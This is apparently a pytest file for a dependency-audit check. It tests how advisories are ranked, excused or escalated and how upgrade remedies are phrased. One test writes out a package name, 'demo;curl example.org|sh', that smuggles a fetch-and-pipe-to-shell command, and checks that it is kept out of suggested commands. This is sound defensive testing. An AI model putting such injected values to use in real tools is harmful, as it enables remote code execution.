"""What of the dependencies check's findings counts, comes first, and is said about who pulls a package."""

from __future__ import annotations

import json
from collections.abc import Iterable, Sequence
from typing import Any

import pytest

from pregate.checks.base import Analysis, Moment, Target
from pregate.checks.dependencies import DependenciesCheck
from pregate.config import Config, DependenciesConfig
from pregate.lockfiles.model import Advisory, Package
from pregate.model import Candidate, Finding, Severity, State, UnreadReason
from pregate.policy import judge
from tests.checks.test_dependencies import Source, record

DAY = 86400
NOW = 1_800_000_000.0  # 2027-01-15


class Lists:
    """What attackers use, in a test's words."""

    def exploited_since(self, names: Iterable[str]) -> str:
        return "2026-05-01" if "CVE-2026-1" in names else ""

    def used_for_ransom(self, names: Iterable[str]) -> bool:
        return "CVE-2026-1" in names

    def epss(self, names: Iterable[str]) -> tuple[float, float] | None:
        return (0.42, 0.97) if "CVE-2026-1" in names else None

    def describe(self) -> str:
        return "a test's lists"


class Service(Source):
    """A database that answers as a service does: with what affects the version that is asked about."""

    def advisories_for(self, packages: Sequence[Package]) -> tuple[tuple[Advisory, ...], ...]:
        self.questions.append([p.key for p in packages])
        return tuple(tuple(a for a in self.advisories if p.version in a.summary.split()) for p in packages)


def lock(packages: dict[str, Any], root: dict[str, Any] | None = None) -> bytes:
    return json.dumps({"lockfileVersion": 3, "packages": {"": root or {}, **packages}}).encode()


def run(
    records: Sequence[dict[str, Any]],
    text: bytes = b"demo==1.0\n",
    path: str = "requirements.txt",
    moment: Moment | None = None,
    included: dict[str, bytes] | None = None,
    **options: Any,
) -> Analysis:
    source = Source(*records)
    check = DependenciesCheck(DependenciesConfig(**options), source, Lists(), moment or Moment(NOW))
    target = Target(path, text, tuple((included or {}).items()))
    return check.conclude([check.analyse(target)]).analyses[0]


def state(finding: Finding, **options: Any) -> State:
    return judge(Candidate(finding, introduced=True, in_diff=True), Config(fail_on="high", **options)).state


HIGH: dict[str, Any] = {
    "severity": [{"type": "CVSS_V3", "score": "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N"}]
}
FIXED = (("introduced", "0"), ("fixed", "1.1"))
OPEN = (("introduced", "0"),)


def test_without_a_fix_only_fixable_lets_a_finding_pass_and_says_so() -> None:
    (finding,) = run([record("GHSA-a", *OPEN, **HIGH)], only_fixable=True).findings
    assert finding.excused == "no fixed version is known (only-fixable)"
    assert dict(finding.properties)["excused"] == finding.excused
    assert finding.message.endswith("; does not fail the gate: no fixed version is known (only-fixable)")
    assert state(finding) is State.BELOW_THRESHOLD
    (counted,) = run([record("GHSA-a", *FIXED, **HIGH)], only_fixable=True).findings
    assert (counted.excused, state(counted)) == ("", State.NEW)


def test_ignore_dev_lets_pass_what_serves_development_in_every_place() -> None:
    demo = {"version": "1.0.0", "dev": True}
    records = [record("GHSA-a", *FIXED, ecosystem="npm", **HIGH)]
    (finding,) = run(
        records, lock({"node_modules/demo": demo}), "package-lock.json", ignore_dev=True
    ).findings
    assert (finding.excused, state(finding)) == (
        "it serves development alone (ignore-dev)",
        State.BELOW_THRESHOLD,
    )
    both = lock({"node_modules/demo": demo, "node_modules/x/node_modules/demo": {"version": "1.0.0"}})
    (counted,) = run(records, both, "package-lock.json", ignore_dev=True).findings
    assert (counted.excused, state(counted)) == ("", State.NEW)


@pytest.mark.parametrize(
    ("age", "opened", "counts"),
    [
        (2, NOW - 5 * DAY, False),
        (2, 0.0, False),
        (2, NOW - 1 * DAY, True),
        (8, NOW - 30 * DAY, True),
        (7, NOW - 30 * DAY, True),
    ],
    ids=["after the request", "no request", "before the request", "too old", "on the last second"],
)
def test_grace_is_for_advisories_younger_than_its_days_and_than_the_pull_request(
    age: int, opened: float, counts: bool
) -> None:
    import datetime

    published = datetime.datetime.fromtimestamp(NOW - age * DAY, datetime.UTC).isoformat()
    records = [record("GHSA-a", *FIXED, published=published, **HIGH)]
    (finding,) = run(records, moment=Moment(NOW, opened), grace_days=7).findings
    assert (state(finding) is State.NEW, finding.excused == "") == (counts, counts)
    if not counts:
        assert "counts from 2027-01-20 (grace-days: 7)" in finding.excused


def test_an_advisory_without_a_usable_time_has_no_grace() -> None:
    for published in ("", "soon", "0001-01-01T00:00:00Z"):
        (finding,) = run([record("GHSA-a", *FIXED, published=published, **HIGH)], grace_days=7).findings
        assert finding.excused == ""


def test_what_attackers_use_is_critical_comes_first_and_has_no_grace() -> None:
    low: dict[str, Any] = {
        "severity": [{"type": "CVSS_V3", "score": "CVSS:3.1/AV:L/AC:H/PR:H/UI:R/S:U/C:L/I:N/A:N"}]
    }
    records = [record("GHSA-a", *FIXED, aliases=["CVE-2026-1"], published="2027-01-14T00:00:00Z", **low)]
    (finding,) = run(records, grace_days=7).findings
    assert (finding.severity, finding.excused) == (Severity.CRITICAL, "")
    assert (
        "; attackers use it, also for ransom (CISA's list since 2026-05-01); fixed in 1.1" in finding.message
    )
    told = dict(finding.properties)
    assert (told["known-exploited"], told["epss"], told["epss-percentile"]) == (
        "2026-05-01",
        "0.42000",
        "0.97000",
    )


def test_a_malicious_package_is_critical_and_nothing_excuses_it() -> None:
    demo = {"node_modules/demo": {"version": "1.0.0", "dev": True}}
    records = [record("MAL-2026-7", *OPEN, ecosystem="npm", published="2027-01-14T00:00:00Z")]
    (finding,) = run(
        records, lock(demo), "package-lock.json", only_fixable=True, ignore_dev=True, grace_days=30
    ).findings
    assert (finding.severity, finding.excused, finding.fixes) == (Severity.CRITICAL, "", ())
    assert finding.remedy.startswith("Remove `demo` 1.0.0 and do not install it.")
    assert "rotate them" in finding.remedy
    assert "no fixed version" not in finding.message
    assert dict(finding.properties)["malicious"] == "yes"


@pytest.mark.parametrize("name", ["MAL-2026-7", "GHSA-a"])
def test_where_no_version_is_fixed_the_manifest_s_line_is_named_and_nothing_to_write_there(name: str) -> None:
    root = {"dependencies": {"demo": "^1.0.0"}}
    (finding,) = run(
        [record(name, *OPEN, ecosystem="npm")],
        lock({"node_modules/demo": {"version": "1.0.0"}}, root),
        "package-lock.json",
        included={"package.json": json.dumps(root, indent=1).encode()},
    ).findings
    assert [r.message for r in finding.related] == ["demo is asked for here"]


CHAIN = {
    "node_modules/app": {"version": "2.0.0", "dependencies": {"middle": "^1.0.0"}},
    "node_modules/middle": {"version": "1.0.0", "dependencies": {"demo": "1.0.0"}},
    "node_modules/demo": {"version": "1.0.0"},
}
ROOT = {"dependencies": {"app": "^2.0.0"}}


def test_a_transitive_package_is_told_with_the_chain_and_who_keeps_the_fix_out() -> None:
    records = [record("GHSA-a", *FIXED, ecosystem="npm")]
    (finding,) = run(
        records,
        lock(CHAIN, ROOT),
        "package-lock.json",
        included={"package.json": json.dumps(ROOT, indent=1).encode()},
    ).findings
    assert "; it comes with app 2.0.0 → middle 1.0.0" in finding.message
    assert dict(finding.properties)["comes-with"] == "app 2.0.0 → middle 1.0.0"
    assert finding.remedy == (
        "It comes with app 2.0.0 → middle 1.0.0. middle 1.0.0 asks for `1.0.0`: that keeps the fix out. "
        "Upgrade `app` (package.json:3) to a version that brings it: try `npm update app`, then "
        "`npm install app@latest`; or override it."
    )


def test_where_all_that_pull_it_are_content_with_the_fix_locking_again_is_enough() -> None:
    packages = {**CHAIN, "node_modules/middle": {"version": "1.0.0", "dependencies": {"demo": "^1.0.0"}}}
    records = [record("GHSA-a", ("introduced", "0"), ("fixed", "1.1.0"), ecosystem="npm")]
    (finding,) = run(records, lock(packages, ROOT), "package-lock.json").findings
    assert finding.remedy == (
        "It comes with app 2.0.0 → middle 1.0.0. "
        "Run `npm update demo` (all that pull it are content with that)."
    )


def test_a_direct_package_is_told_with_the_manifest_s_line_and_what_to_write_there() -> None:
    root = {"dependencies": {"demo": "^1.0.0"}}
    records = [record("GHSA-a", ("introduced", "0"), ("fixed", "2.1.0"), ecosystem="npm")]
    (finding,) = run(
        records,
        lock({"node_modules/demo": {"version": "1.0.0"}}, root),
        "package-lock.json",
        included={"package.json": json.dumps(root, indent=1).encode()},
    ).findings
    assert finding.remedy == ("Ask for `^2.1.0` of `demo` in package.json:3. Run `npm install demo@2.1.0`.")
    (related,) = finding.related
    assert (related.location.path, related.location.start_line) == ("package.json", 3)
    assert related.message == "demo is asked for here: write ^2.1.0"


def test_a_name_that_a_shell_would_take_for_more_is_not_put_into_a_command() -> None:
    name = "demo;curl example.org|sh"
    records = [record("GHSA-a", *FIXED, ecosystem="npm", name=name.replace(" ", "_"))]
    packages = {f"node_modules/{name.replace(' ', '_')}": {"version": "1.0.0"}}
    (finding,) = run(records, lock(packages), "package-lock.json").findings
    assert "npm" not in finding.remedy
    assert "again with the tool that wrote this file" in finding.remedy


def test_an_upgrade_is_asked_about_before_it_is_advised() -> None:
    first = record("GHSA-a", ("introduced", "0"), ("fixed", "1.1"), summary="affects 1.0")
    second = record("GHSA-b", ("introduced", "1.1"), ("fixed", "1.2"), summary="affects 1.1")
    source = Service(first, second)
    check = DependenciesCheck(DependenciesConfig(), source, None, Moment(NOW))
    conclusion = check.conclude([check.analyse(Target("requirements.txt", b"demo==1.0\n"))])
    (finding,) = conclusion.analyses[0].findings
    assert dict(finding.properties)["upgrade"] == "1.2"
    assert [fix.text for fix in finding.fixes] == ["demo==1.2"]
    assert [q[0][2] for q in source.questions] == ["1.0", "1.1", "1.2"]


def test_upgrades_that_never_end_are_not_advised_for_certain() -> None:
    records = [
        record(f"GHSA-{n}", ("introduced", f"1.{n}"), ("fixed", f"1.{n + 1}"), summary=f"affects 1.{n}")
        for n in range(30)
    ]
    check = DependenciesCheck(DependenciesConfig(), Service(*records), None, Moment(NOW))
    conclusion = check.conclude([check.analyse(Target("requirements.txt", b"demo==1.0\n"))])
    (finding,) = conclusion.analyses[0].findings
    assert finding.fixes == ()


def test_packages_of_an_ecosystem_that_the_database_does_not_have_are_not_audited() -> None:
    class OnlyPython(Source):
        def covers(self, ecosystem: str) -> bool:
            return ecosystem == "PyPI"

    check = DependenciesCheck(DependenciesConfig(), OnlyPython(), None, Moment(NOW))
    target = Target("package-lock.json", lock(CHAIN))
    (unread,) = check.conclude([check.analyse(target)]).analyses[0].unread
    assert (unread.reason, unread.path) == (UnreadReason.NOT_AUDITED, "package-lock.json")
    assert unread.detail == "3 packages of npm: the vulnerability database has nothing of that ecosystem"


def test_a_name_that_is_nearly_a_much_used_one_is_a_warning_with_both_names() -> None:
    text = b"reqeusts==1.0\nrequests==2.31.0\n"
    (finding,) = run([], text).findings
    assert finding.rule.id == "dependencies/confusable-name"
    assert "reqeusts" in finding.message
    assert "requests" in finding.message
    assert state(finding) is State.BELOW_THRESHOLD


@pytest.mark.parametrize("moment", [Moment(NOW, compared=False)])
def test_names_are_not_looked_at_where_nothing_is_new(moment: Moment) -> None:
    assert run([], b"reqeusts==1.0\n", moment=moment).findings == ()


def test_names_are_not_looked_at_where_policy_says_so() -> None:
    assert run([], b"reqeusts==1.0\n", confusable_names="ignore").findings == ()
